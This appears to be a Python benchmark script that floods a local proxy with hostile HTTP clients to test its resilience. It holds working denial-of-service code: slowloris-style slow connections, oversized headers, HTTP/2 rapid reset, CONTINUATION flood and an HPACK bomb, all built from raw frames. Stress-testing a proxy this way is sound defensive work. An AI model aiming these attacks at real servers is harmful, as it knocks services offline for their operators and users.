"""Clients that mean harm: ``python -m benchmarks.proxy_attacks NAME PORT SECONDS``; says ``ready`` once it has begun.

Who is cut connects anew after a hundredth of a second. Everything is HTTP as bytes, so that nothing polite is in the way.
"""

import asyncio
import contextlib
import struct
import sys
from collections.abc import Awaitable, Callable

import uvloop
from hpack import Encoder

from benchmarks.proxy_load import HOST

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
IDLE = 9_000
"""Connections; a proxy takes 10,000 unless it is told otherwise."""
GET = f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()
PAUSE_S = 0.01
SETTLE_S = 3.0
"""Until the kernel's buffers are full of what slow readers have asked for."""
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def stay(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    """Connect, and say nothing."""
    await reader.read()


async def write_slowly(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a head drop by drop."""
    writer.write(GET)
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(0.1)


async def read_slowly(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask for much, and read it drop by drop."""
    writer.write(f"GET /large HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
    while await reader.read(1000):  # noqa: ASYNC110 - this is how it is meant
        await asyncio.sleep(0.1)


async def send_large_heads(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send as many headers as there is room for, and more."""
    head = GET + b"".join(b"x-%d: %b\r\n" % (number, b"y" * 500) for number in range(200)) + b"\r\n"
    while True:
        writer.write(head)
        await writer.drain()
        await asyncio.sleep(PAUSE_S)


async def reset_rapidly(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Begin streams and reset them at once (CVE-2023-44487)."""
    block = _opened(writer)
    stream = 1
    while True:
        for _each in range(100):
            writer.write(_frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + _frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
            stream += 2
        await writer.drain()
        await asyncio.sleep(PAUSE_S)


async def continue_forever(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Begin a head that never ends (CVE-2024-27316)."""
    block = _opened(writer)
    writer.write(_frame(HEADERS, END_STREAM, 1, block))
    while True:
        writer.write(_frame(CONTINUATION, 0, 1, Encoder().encode([("x-more", "y" * 1000)])) * 10)
        await writer.drain()
        await asyncio.sleep(PAUSE_S)


async def repeat_a_header(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Let a few bytes stand for many headers: HPACK's table as a bomb."""
    block = _opened(writer)
    encoder = Encoder()
    bomb = block + encoder.encode([("x-bomb", "y" * 3000)]) + b"\xbe" * 8000
    stream = 1
    while True:
        writer.write(_frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb))
        stream += 2
        await writer.drain()
        await asyncio.sleep(PAUSE_S)


ATTACKS: dict[str, tuple[Attack, int]] = {
    "idle connections": (stay, IDLE),
    "slow writers": (write_slowly, 500),
    "slow readers": (read_slowly, 50),
    "large heads": (send_large_heads, 2),
    "rapid reset": (reset_rapidly, 2),
    "CONTINUATION flood": (continue_forever, 2),
    "HPACK bomb": (repeat_a_header, 2),
}
"""Each with its number of connections."""


def _opened(writer: asyncio.StreamWriter) -> bytes:
    """Open an HTTP/2 connection; return the header block of a good request."""
    writer.write(PREFACE + _frame(SETTINGS, 0, 0, b""))
    return Encoder().encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", HOST)], huffman=False)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">BHBBI", len(payload) >> 16, len(payload) & 0xFFFF, kind, flags, stream) + payload


async def _again_and_again(attack: Attack, port: int) -> None:
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1024)
            try:
                await attack(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(PAUSE_S)


async def run(name: str, port: int, seconds: float) -> None:
    """Attack for a while."""
    attack, connections = ATTACKS[name]
    tasks = []
    for number in range(connections):
        tasks.append(asyncio.create_task(_again_and_again(attack, port)))
        if number % 100 == 0:
            await asyncio.sleep(PAUSE_S)  # a backlog that overflows would be no attack on the proxy
    await asyncio.sleep(SETTLE_S)
    print("ready", flush=True)
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    uvloop.run(run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
